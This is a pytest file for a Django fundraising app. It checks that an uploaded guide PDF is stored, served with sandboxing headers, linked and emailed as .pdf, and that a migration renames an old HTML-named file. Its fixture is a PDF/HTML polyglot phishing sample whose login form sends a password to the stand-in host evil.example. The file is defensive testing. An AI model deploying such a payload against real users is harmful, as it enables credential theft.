"""The guide PDF is a PDF wherever it goes: stored, served, linked and attached
as .pdf, whatever name it was uploaded under."""

import re

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile

from fundraising.models import Guide
from tests.fundraising.factories import form_data

pytestmark = pytest.mark.django_db

# Starts like a PDF, reads like a login page: what an attacker would upload.
PHISHING_PDF = (
    b"%PDF-1.4\n<html><body><form action=https://evil.example/>"
    b"<input name=password></form></body></html>\n%%EOF\n"
)


def upload_guide_pdf(client, name, data):
    guide = Guide.load()
    sections = list(guide.sections.all())
    form = {
        "title_en": guide.title,
        "intro_en": guide.intro,
        "pdf": SimpleUploadedFile(name, data, content_type="text/html"),
        "sections-TOTAL_FORMS": str(len(sections)),
        "sections-INITIAL_FORMS": str(len(sections)),
        "sections-MIN_NUM_FORMS": "0",
        "sections-MAX_NUM_FORMS": "1000",
    }
    for i, section in enumerate(sections):
        form.update(
            {
                f"sections-{i}-id": str(section.pk),
                f"sections-{i}-guide": str(guide.pk),
                f"sections-{i}-order": str(section.order),
                f"sections-{i}-title_en": section.title,
            }
        )
    return client.post(f"/admin/fundraising/guide/{guide.pk}/change/", form)


def test_a_pdf_named_html_is_stored_served_linked_and_attached_as_pdf(
    client, settings, smtp_sink, immediate_tasks, django_capture_on_commit_callbacks
):
    staff = get_user_model().objects.create_superuser("events", "events@example.org", "pw")
    client.force_login(staff)
    assert upload_guide_pdf(client, "staff-login.html", PHISHING_PDF).status_code == 302
    guide = Guide.load()
    assert re.fullmatch(r"guide/[0-9a-f]{32}\.pdf", guide.pdf.name)
    client.logout()

    served = client.get(guide.pdf.url)
    assert served["Content-Type"] == "application/pdf"
    assert served["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert served["X-Content-Type-Options"] == "nosniff"
    page = client.get("/fundraise/guide/").content.decode()
    assert f'href="{guide.pdf.url}"' in page and ".html" not in guide.pdf.url

    settings.FORM_MIN_SECONDS = 0
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/fundraise/", form_data())
    email = next(m for m in smtp_sink.wait_for(2) if "guide" in m["Subject"].lower())
    [attachment] = list(email.iter_attachments())
    assert attachment.get_content_type() == "application/pdf"
    assert attachment.get_filename().endswith(".pdf")
    assert "html" not in attachment.get_filename()
    assert attachment.get_content() == PHISHING_PDF


def test_a_guide_stored_under_its_uploaders_name_is_moved_and_emails_follow(settings):
    """As the old code stored it: guide/staff-login.html, attached to queued emails."""
    import importlib

    from django.apps import apps

    from tests.outbox.factories import OutboundEmailFactory

    (settings.MEDIA_ROOT / "guide").mkdir(parents=True)
    (settings.MEDIA_ROOT / "guide" / "staff-login.html").write_bytes(PHISHING_PDF)
    guide = Guide.load()
    Guide.objects.filter(pk=guide.pk).update(pdf="guide/staff-login.html")
    queued = OutboundEmailFactory(attachments=["guide/staff-login.html"])
    other = OutboundEmailFactory(attachments=[])

    migration = importlib.import_module("fundraising.migrations.0003_guide_pdf_name_from_content")
    migration.rename_client_named_guide(apps, None)

    guide.refresh_from_db()
    assert re.fullmatch(r"guide/[0-9a-f]{32}\.pdf", guide.pdf.name)
    assert guide.pdf.read() == PHISHING_PDF
    assert not (settings.MEDIA_ROOT / "guide" / "staff-login.html").exists()
    queued.refresh_from_db()
    other.refresh_from_db()
    assert queued.attachments == [guide.pdf.name]
    assert other.attachments == []
